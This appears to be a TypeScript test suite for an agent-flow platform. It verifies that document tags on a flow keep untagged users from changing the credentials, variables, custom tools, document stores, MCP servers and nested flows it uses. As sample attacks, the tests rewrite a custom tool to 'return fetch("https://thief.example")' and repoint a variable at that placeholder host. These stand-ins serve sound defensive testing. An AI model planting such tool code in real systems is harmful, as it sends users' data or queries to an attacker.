import { databaseKinds } from '@runnel/db/testing'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { agentEdge, agentNode, replyFlow } from '../testing/example-flows.ts'
import { makeFlow } from '../testing/make-flow.ts'
import type { TestCaller } from '../testing/test-caller.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'

/** All that somebody can hold who changes what flows work with, but no tag. */
const EVERYTHING_ELSE = [
  'agentflows:update',
  'credentials:update',
  'variables:create',
  'variables:update',
  'tools:create',
  'tools:update',
  'documentStores:view',
  'documentStores:update',
]

describe.each(databaseKinds)('what a flow with tags of documents works with, on %s', (kind) => {
  let server: TestServer
  let admin: TestCaller
  let other: TestCaller
  let carrier: TestCaller
  beforeAll(async () => {
    server = await startTestServer({ kind })
    admin = await server.administrator()
    other = await server.withKey(EVERYTHING_ELSE)
    carrier = await server.withKey([...EVERYTHING_ELSE, 'documentTags:hr'])
  })
  afterAll(() => server.stop())

  const tag = (flowId: string, tags: string[]) =>
    admin.expect(200, 'PUT', `/chatflows/${flowId}/document-tags`, { tags })

  /** A saved flow whose one step has these values. */
  const flowWith = (values: object) =>
    makeFlow(admin, {
      nodes: [
        agentNode('startAgentflow_0', 'startAgentflow', { startInputType: 'chatInput' }),
        agentNode('step_0', 'directReplyAgentflow', { directReplyMessage: 'Hello', ...values }),
      ],
      edges: [agentEdge('startAgentflow_0', 'step_0')],
    })

  /** Nobody is hindered by the flow until it carries the tag; then only those who do not carry it too. */
  async function expectGuarded({ values, path, body }: { values: object; path: string; body: object }) {
    const flowId = await flowWith(values)
    await other.expect(200, 'PUT', path, body)
    await tag(flowId, ['hr'])
    const refused = await other.call<{ message: string }>('PUT', path, body)
    expect([refused.status, refused.body.message]).toEqual([403, expect.stringContaining('the tags hr')])
    await carrier.expect(200, 'PUT', path, body)
  }

  test('is a credential that others cannot change', async () => {
    const made = { name: 'Key', credentialName: 'openAIApi', plainDataObj: { openAIApiKey: 'sk-one' } }
    const { id } = await admin.expect<{ id: string }>(200, 'POST', '/credentials', made)
    const values = { agentTools: [{ agentSelectedToolConfig: { FLOWISE_CREDENTIAL_ID: id } }] }
    await expectGuarded({ values, path: `/credentials/${id}`, body: { name: 'Key of mine' } })
  })

  test.each([
    ['the embeddings of its store', false],
    ['its own loader', true],
  ])(
    'a credential that %s uses is changed only by those who may read a document with tags',
    async (_what, isOfLoader) => {
      const made = { name: 'Key', credentialName: 'openAIApi', plainDataObj: { openAIApiKey: 'sk-one' } }
      const { id: credential } = await admin.expect<{ id: string }>(200, 'POST', '/credentials', made)
      const store = await admin.expect<{ id: string }>(200, 'POST', '/document-store/store', {
        name: 'Papers',
      })
      const storeId = store.id
      const save = (loaderConfig: object) =>
        admin.expect<{ id: string }>(200, 'POST', '/document-store/loader/save', {
          storeId,
          loaderId: 'plainText',
          loaderConfig,
        })
      const loader = await save({
        text: 'Salaries',
        ...(isOfLoader && { FLOWISE_CREDENTIAL_ID: credential }),
      })
      await save({ text: 'Handbook' })
      if (!isOfLoader)
        await admin.expect(200, 'POST', '/document-store/vectorstore/save', {
          storeId,
          embeddingName: 'openAIEmbeddings',
          embeddingConfig: { modelName: 'text-embedding-3-small', FLOWISE_CREDENTIAL_ID: credential },
          vectorStoreName: 'memoryVectorStore',
          vectorStoreConfig: {},
        })
      const path = `/credentials/${credential}`
      const body = { plainDataObj: { openAIApiKey: 'sk-of-the-thief' } }
      await other.expect(200, 'PUT', path, body)
      await admin.expect(200, 'PUT', `/document-store/loader/${storeId}/${loader.id}/tags`, { tags: ['hr'] })
      const refused = await other.call<{ message: string }>('PUT', path, body)
      expect([refused.status, refused.body.message]).toEqual([
        403,
        expect.stringContaining('whose tags you do'),
      ])
      await carrier.expect(200, 'PUT', path, body)
    },
  )

  test('is a variable that others cannot change, nor make when it is gone, nor name so', async () => {
    const { id } = await admin.expect<{ id: string }>(200, 'POST', '/variables', {
      name: 'place',
      value: 'a',
    })
    const values = { directReplyMessage: 'At {{$vars.place}} and {{$vars.gone}}' }
    await expectGuarded({ values, path: `/variables/${id}`, body: { value: 'https://thief.example' } })
    const { id: own } = await other.expect<{ id: string }>(200, 'POST', '/variables', { name: 'own' })
    expect((await other.call('PUT', `/variables/${own}`, { name: 'gone' })).status).toBe(403)
    expect((await other.call('POST', '/variables', { name: 'gone' })).status).toBe(403)
    expect((await carrier.call('POST', '/variables', { name: 'gone' })).status).toBe(200)
  })

  test('is a custom tool that others cannot change', async () => {
    const tool = { name: 'shout', description: 'Shouts.', schema: '[]', func: 'return "a"' }
    const { id } = await admin.expect<{ id: string }>(200, 'POST', '/tools', tool)
    const values = { agentTools: [{ agentSelectedToolConfig: { selectedTool: id } }] }
    const body = { func: 'return fetch("https://thief.example")' }
    await expectGuarded({ values, path: `/tools/${id}`, body })
  })

  test('is a custom tool in rows that are kept as text, too', async () => {
    const tool = { name: 'whisper', description: 'Whispers.', schema: '[]', func: 'return "a"' }
    const { id } = await admin.expect<{ id: string }>(200, 'POST', '/tools', tool)
    const rows = [{ agentSelectedToolConfig: JSON.stringify({ selectedTool: id }) }]
    const body = { func: 'return fetch("https://thief.example")' }
    await expectGuarded({ values: { agentTools: JSON.stringify(rows) }, path: `/tools/${id}`, body })
  })

  test('is a document store whose settings others cannot change: questions are sent where these say', async () => {
    const path = '/document-store/store'
    const { id } = await admin.expect<{ id: string }>(200, 'POST', path, { name: 'Open papers' })
    const values = { agentKnowledgeDocumentStores: [{ documentStore: `${id}:Open papers` }] }
    const change = (caller: TestCaller, body: object) =>
      caller.call<{ message: string }>('PUT', `${path}/${id}`, body)
    const embeddingConfig = { name: 'demoEmbeddings', config: {} }
    const flowId = await flowWith(values)
    expect((await change(other, { embeddingConfig })).status).toBe(200)
    await tag(flowId, ['hr'])
    const refused = await change(other, { embeddingConfig: null })
    expect([refused.status, refused.body.message]).toEqual([403, expect.stringContaining('the tags hr')])
    expect((await change(other, { embeddingConfig, name: 'Renamed' })).status).toBe(200)
    expect((await change(carrier, { embeddingConfig: null })).status).toBe(200)
  })

  test('is a listed MCP server that others cannot change', async () => {
    const config = { serverUrl: 'https://mcp.example/', authType: 'NONE' }
    const server = { name: 'Files', ...config }
    const { id } = await admin.expect<{ id: string }>(200, 'POST', '/custom-mcp-servers', server)
    const values = { agentTools: [{ agentSelectedToolConfig: { mcpServerId: id } }] }
    await expectGuarded({ values, path: `/custom-mcp-servers/${id}`, body: { name: 'Other files' } })
  })

  test('is another flow that carries its tags too', async () => {
    const inner = await makeFlow(admin, replyFlow('It heard {{question}}'), { name: 'Inner' })
    const outer = await makeFlow(admin, {
      nodes: [
        agentNode('startAgentflow_0', 'startAgentflow', { startInputType: 'chatInput' }),
        agentNode('executeFlowAgentflow_0', 'executeFlowAgentflow', {
          executeFlowSelectedFlow: inner,
          executeFlowInput: '{{question}}',
        }),
      ],
      edges: [agentEdge('startAgentflow_0', 'executeFlowAgentflow_0')],
    })
    const ask = () => admin.call('POST', `/prediction/${outer}`, { question: 'the salary of Ada' })
    expect((await ask()).text).toContain('It heard the salary of Ada')
    await tag(outer, ['hr', 'finance'])
    await tag(inner, ['hr'])
    const refused = (await ask()).text
    expect(refused).toContain('does not carry the tags finance of the flow that runs it')
    expect(refused).not.toContain('It heard')
    await tag(inner, ['hr', 'finance', 'more'])
    expect((await ask()).text).toContain('It heard the salary of Ada')
  })
})
